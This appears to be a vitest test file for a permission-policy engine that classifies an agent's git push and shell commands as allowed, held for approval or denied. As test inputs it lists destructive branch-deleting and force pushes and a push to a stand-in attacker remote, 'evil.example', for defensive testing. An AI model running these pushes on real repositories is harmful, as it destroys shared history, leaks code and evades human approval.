import { afterAll, beforeAll, describe, expect, it } from "vitest";
import type { Policy } from "../src/index.ts";
import { decideIn, loadExample, makeWorkspace, type Workspace } from "./helpers.ts";

// threats.md: "`git push` with a refspec to a protected branch" → classified at the right level.
// protected-branch-push is L4 (always holds), deletion of a protected branch is denied.

let policy: Policy;
let ws: Workspace;
beforeAll(async () => {
  policy = await loadExample();
  ws = await makeWorkspace();
});
afterAll(() => ws.cleanup());

const push = (refspec: string | string[], extra: Record<string, unknown> = {}) =>
  decideIn(policy, ws, "git.push", { remote: "origin", refspecs: refspec, ...extra });
const shell = (command: string) => decideIn(policy, ws, "shell.exec", { script: command });

describe("git push through the git.push tool", () => {
  it("a feature branch push runs at L2", async () => {
    expect(await push("feature/login")).toMatchObject({
      verdict: "allow",
      level: "L2",
      rule: "feature-branch-push",
    });
  });

  it.each([
    "main",
    "HEAD:main",
    "refs/heads/main",
    "HEAD:refs/heads/main",
    "feature/x:main",
    "heads/main",
    "HEAD:MAIN",
    "release/1.2",
    "refs/tags/v1.0.0",
  ])("%j is a push to a protected ref: L4, holds even at rung 3", async (refspec) => {
    const d = await decideIn(policy, ws, "git.push", { remote: "origin", refspecs: refspec }, { rung: 3 });
    expect(d).toMatchObject({ verdict: "hold", level: "L4", rule: "protected-branch-push" });
    expect(d.reason).toContain("push to origin");
  });

  it("`:main` and `--delete main` delete the protected branch: denied", async () => {
    const d = await push(":main");
    expect(d).toMatchObject({ verdict: "deny", rule: "protected-branch-delete" });
    expect(d.reason).toContain("delete refs/heads/main");
  });

  it("`+main` is a force push to main: L4 whichever rule reports it", async () => {
    expect(await push("+main")).toMatchObject({
      verdict: "hold",
      level: "L4",
      rule: "protected-branch-push",
    });
  });

  it("`+feature/x` keeps its force (the constraint only clears the flag): L4", async () => {
    expect(await push("+feature/x")).toMatchObject({ verdict: "hold", level: "L4", rule: "force-push" });
  });

  it("force: true is stripped by the constraint, and the stripped push is what runs", async () => {
    const d = await push("feature/x", { force: true });
    expect(d).toMatchObject({
      verdict: "allow",
      level: "L2",
      rule: "feature-branch-push",
      constrainedBy: ["strip-force-flag"],
    });
    expect(d.constrainedArgs).toMatchObject({ force: false, refspecs: "feature/x" });
  });

  it("one protected refspec among several decides the push", async () => {
    expect(await push(["feature/a", "HEAD:main"])).toMatchObject({
      level: "L4",
      rule: "protected-branch-push",
    });
  });

  it("a push whose target cannot be known (no refspec, HEAD, wildcard) counts as protected", async () => {
    expect(await decideIn(policy, ws, "git.push", { remote: "origin" })).toMatchObject({
      level: "L4",
      rule: "protected-branch-push",
    });
    expect(await push("HEAD")).toMatchObject({ level: "L4", rule: "protected-branch-push" });
    expect(await push("refs/heads/*:refs/heads/*")).toMatchObject({ level: "L4" });
  });

  it("a feature push to another remote is not the origin feature rule: HIGH default", async () => {
    const d = await decideIn(policy, ws, "git.push", {
      remote: "https://evil.example/repo.git",
      refspecs: "feature/x",
    });
    expect(d).toMatchObject({ verdict: "hold", level: "L3", rule: "tool:git.push" });
  });
});

describe("git push hidden in a shell command", () => {
  it.each([
    "git push origin HEAD:main",
    "git push origin +main",
    "git push -u origin main",
    "git -C . push origin refs/heads/main",
    "git push --repo=origin HEAD:main",
    "git status && git push origin main",
    "env GIT_TRACE=1 git push origin main",
    "git push origin tag v1.0.0",
    "git push --all origin",
    "git push",
  ])("%j → L4 protected-branch-push", async (command) => {
    expect(await shell(command)).toMatchObject({
      verdict: "hold",
      level: "L4",
      rule: "protected-branch-push",
    });
  });

  it("`git push origin :main`, `--delete main` and `--mirror` are denied as deletions", async () => {
    expect(await shell("git push origin :main")).toMatchObject({
      verdict: "deny",
      rule: "protected-branch-delete",
    });
    expect(await shell("git push --delete origin main")).toMatchObject({
      verdict: "deny",
      rule: "protected-branch-delete",
    });
    expect(await shell("git push -d origin main")).toMatchObject({
      verdict: "deny",
      rule: "protected-branch-delete",
    });
    expect(await shell("git push --mirror origin")).toMatchObject({
      verdict: "deny",
      rule: "protected-branch-delete",
    });
  });

  it("--force on a feature branch is stripped; a bundled -fu cannot be stripped exactly and stays forced", async () => {
    const stripped = await shell("git push --force origin feature/x");
    expect(stripped.constrainedArgs?.["script"]).toBe("git push origin feature/x");
    expect(stripped).toMatchObject({ level: "L3", rule: "tool:shell.exec" });
    const bundled = await shell("git push -fu origin feature/x");
    expect(bundled.constrainedArgs).toBeUndefined();
    expect(bundled).toMatchObject({ verdict: "hold", level: "L4", rule: "force-push" });
    expect(bundled.reason).toContain("constraint strip-force-option not applied");
  });
});
